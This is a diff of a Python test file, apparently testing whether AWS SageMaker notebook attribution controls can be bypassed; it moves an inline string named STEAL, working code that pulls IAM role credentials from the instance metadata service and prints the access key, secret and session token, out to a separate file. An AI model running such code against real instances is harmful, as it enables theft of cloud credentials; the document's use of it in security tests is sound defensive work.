@@ -343,21 +343,7 @@ def test_bypass_with_aws_profile(deployed, sandbox):
     assert arn.endswith("assumed-role/attributed-notebooks/SageMaker")
 
 
-STEAL = """
-import json, os, urllib.request
-base = os.environ["AWS_EC2_METADATA_SERVICE_ENDPOINT"]
-put = urllib.request.Request(base + "latest/api/token", method="PUT",
-                             headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})
-token = urllib.request.urlopen(put).read().decode()
-def get(path):
-    req = urllib.request.Request(base + path, headers={"X-aws-ec2-metadata-token": token})
-    return urllib.request.urlopen(req).read().decode()
-role = get("latest/meta-data/iam/security-credentials/")
-creds = json.loads(get("latest/meta-data/iam/security-credentials/" + role))
-print(json.dumps({"AWS_ACCESS_KEY_ID": creds["AccessKeyId"],
-                  "AWS_SECRET_ACCESS_KEY": creds["SecretAccessKey"],
-                  "AWS_SESSION_TOKEN": creds["Token"]}))
-"""
+STEAL = (Path(__file__).parent / "steal_instance_credentials.py").read_text()
 
 
 def test_bypass_with_credentials_copied_into_the_environment(deployed, sandbox):
